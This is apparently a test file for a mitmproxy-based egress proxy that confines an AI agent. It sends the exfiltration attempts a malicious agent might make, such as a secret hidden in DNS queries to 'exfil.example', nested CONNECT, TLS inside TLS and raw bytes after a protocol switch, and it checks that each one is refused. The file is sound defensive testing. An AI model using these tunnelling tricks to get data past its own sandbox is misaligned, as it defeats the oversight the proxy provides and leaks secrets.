"""Only judged HTTP leaves (addon/README.md): the layer rule, the CONNECT port rule, no server
connection without an allowed request, no protocol switch. Each test sends what a malicious agent
would and checks that nothing reached the listener it aimed at."""

from __future__ import annotations

import socket
import ssl
import struct
import time

from itsupport import (
    Chain,
    ChainFactory,
    _Server,
    client_tls,
    h1_plain_request,
    open_tunnel,
)

SECRET = "AKIAIOSFODNN7EXAMPLE"


class RawListener(_Server):
    """Hears every byte on its port (any protocol), so a relay of any kind is seen."""

    def __init__(self) -> None:
        super().__init__()
        self.received = b""
        self.accepted = 0

    def handle(self, sock: socket.socket, peer: tuple[str, int]) -> None:
        with self.lock:
            self.accepted += 1
        sock.settimeout(5)
        while data := sock.recv(65536):
            with self.lock:
                self.received += data


def dns_query_tcp(name: str) -> bytes:
    """A DNS query for `name` (type A), framed for TCP (two-byte length first)."""
    question = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    message = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + question + b"\0\0\1\0\1"
    return struct.pack(">H", len(message)) + message


def send_and_drain(sock: socket.socket, payload: bytes, wait: float = 1.0) -> bytes:
    """Sends, then reads until the proxy closes or `wait` passes; what came back."""
    got = b""
    sock.settimeout(wait)
    try:
        sock.sendall(payload)
        deadline = time.monotonic() + wait
        while time.monotonic() < deadline:
            chunk = sock.recv(65536)
            if not chunk:
                break
            got += chunk
    except (TimeoutError, ConnectionError, OSError):
        pass
    return got


def refused_records(c: Chain) -> list[dict]:
    return [r for r in c.mitm.wait_decisions(1) if r["reason"] == "layer_refused"]


DEFAULT_PORTS: dict[str, str | None] = {"bottle_connect_ports": None, "bottle_http_ports": None}


def test_dns_over_tcp_through_connect_is_refused_on_the_dns_ports(
    make_chain: ChainFactory,
) -> None:
    # mitmproxy's own choice for CONNECT targets on 53 and 5353 is its DNS layer, which relays
    # the query (a secret in its name) to the target. Those ports are not the bottle's.
    chain = make_chain(DEFAULT_PORTS)
    for port in (53, 5353):
        sock, status = open_tunnel(chain.mitm.port, f"{SECRET}.exfil.example:{port}", timeout=3)
        with sock:
            assert status == 403, port
            # What follows the refusal's headers (if open_tunnel did not read it) is its own
            # body, never a DNS answer.
            after = send_and_drain(sock, dns_query_tcp(f"{SECRET}.exfil.example"), 0.3)
            assert after == b"" or after.startswith(b"bottle: blocked:"), after
    reasons = [r["reason"] for r in chain.mitm.wait_decisions(2)]
    assert reasons == ["port_not_allowed", "port_not_allowed"]
    assert chain.scanner.requests == []


def test_dns_over_tcp_to_an_allowed_port_is_not_relayed(make_chain: ChainFactory) -> None:
    # The layer rule holds whatever the port rule allows: a DNS listener on a port the bottle
    # (wrongly) allows still hears nothing.
    listener = RawListener()
    listener.start()
    try:
        c = make_chain({"bottle_connect_ports": f"443,{listener.port}"})
        sock, status = open_tunnel(c.mitm.port, f"127.0.0.1:{listener.port}", timeout=3)
        with sock:
            assert status == 200
            send_and_drain(sock, dns_query_tcp(f"{SECRET}.exfil.example"))
        time.sleep(0.2)
        assert (listener.accepted, listener.received) == (0, b"")
        (record,) = refused_records(c)
        assert record["verdict"] == "block" and record["decided_by"] == "addon"
        assert "must carry TLS" in record["detail"]
    finally:
        listener.stop()


def test_plaintext_http_in_a_tunnel_is_refused(chain: Chain) -> None:
    # Plain HTTP inside a CONNECT tunnel would leave as plaintext to a TLS port, with no TLS
    # the chain chose.
    c = chain
    sock, status = open_tunnel(c.mitm.port, f"localhost:{c.upstream.port}", timeout=3)
    with sock:
        assert status == 200
        got = send_and_drain(sock, b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
    assert got == b""
    assert c.upstream.connections == [] and c.scanner.requests == []
    assert len(refused_records(c)) == 1


def test_tls_to_the_proxy_port_itself_is_refused(chain: Chain) -> None:
    c = chain
    raw = socket.create_connection(("127.0.0.1", c.mitm.port), timeout=3)
    ctx = ssl.create_default_context(cafile=str(c.mitm.ca_pem))
    try:
        with ctx.wrap_socket(raw, server_hostname="localhost") as tls:
            tls.sendall(f"GET https://localhost:{c.upstream.port}/ HTTP/1.1\r\n\r\n".encode())
            tls.recv(1024)
        raise AssertionError("a TLS handshake with the proxy port itself succeeded")
    except (ssl.SSLError, ConnectionError, OSError):
        pass
    assert c.upstream.connections == []
    assert len(refused_records(c)) == 1


def test_a_connect_inside_a_decrypted_tunnel_is_refused(chain: Chain) -> None:
    # mitmproxy 12.2.3 answers a CONNECT in a decrypted tunnel 400 itself; the addon's own rule
    # (403 nested_connect) stands behind that should a later mitmproxy pass it on.
    c = chain
    sock, status = open_tunnel(c.mitm.port, f"localhost:{c.upstream.port}", timeout=3)
    assert status == 200
    with client_tls(sock, c.mitm.ca_pem, "localhost", ["http/1.1"]) as tls:
        inner = f"{SECRET}.exfil.example:443"
        got = send_and_drain(tls, f"CONNECT {inner} HTTP/1.1\r\nHost: {inner}\r\n\r\n".encode())
    assert got.startswith((b"HTTP/1.1 400", b"HTTP/1.1 403")), got[:200]
    assert c.upstream.connections == [] and c.scanner.requests == []


def test_tls_inside_tls_is_refused(chain: Chain) -> None:
    c = chain
    sock, status = open_tunnel(c.mitm.port, f"localhost:{c.upstream.port}", timeout=3)
    assert status == 200
    with client_tls(sock, c.mitm.ca_pem, "localhost", ["http/1.1"]) as tls:
        inner_hello = b"\x16\x03\x01\x00\x05" + b"\x01\x00\x00\x01\x00"
        assert send_and_drain(tls, inner_hello) == b""
    assert c.upstream.connections == []
    assert "TLS inside TLS" in refused_records(c)[0]["detail"]


def test_plain_http_to_a_port_the_bottle_does_not_allow_is_refused(
    make_chain: ChainFactory,
) -> None:
    # The default rules: CONNECT to 443, plain http to 80. A fixture's control API on another
    # port (or any other service) is out of reach.
    c = make_chain(DEFAULT_PORTS)
    r = h1_plain_request(c.mitm.port, "GET", f"http://localhost:{c.upstream.port}/records")
    assert r.status == 403 and r.header("x-bottle-block-reason") == "port_not_allowed"
    sock, status = open_tunnel(c.mitm.port, f"localhost:{c.upstream.port}", timeout=3)
    sock.close()
    assert status == 403
    assert c.upstream.connections == [] and c.scanner.requests == []


def test_an_upstream_switching_protocols_gets_no_raw_relay(chain: Chain) -> None:
    # A clean, allowed request; the upstream answers 101 unasked. mitmproxy would hand the
    # connection to its raw TCP layer, and the agent's next bytes would go out unjudged.
    c = chain
    sock, status = open_tunnel(c.mitm.port, f"localhost:{c.upstream.port}", timeout=3)
    assert status == 200
    with client_tls(sock, c.mitm.ca_pem, "localhost", ["http/1.1"]) as tls:
        request = f"GET /switch HTTP/1.1\r\nHost: localhost:{c.upstream.port}\r\n\r\n"
        got = send_and_drain(tls, request.encode())
        assert not got.startswith(b"HTTP/1.1 101"), got[:200]
        send_and_drain(tls, SECRET.encode() * 4, 0.5)
    time.sleep(0.2)
    assert c.upstream.raw_after_switch == b""
    records = c.mitm.wait_decisions(1)
    assert records[-1]["reason"] == "upgrade"
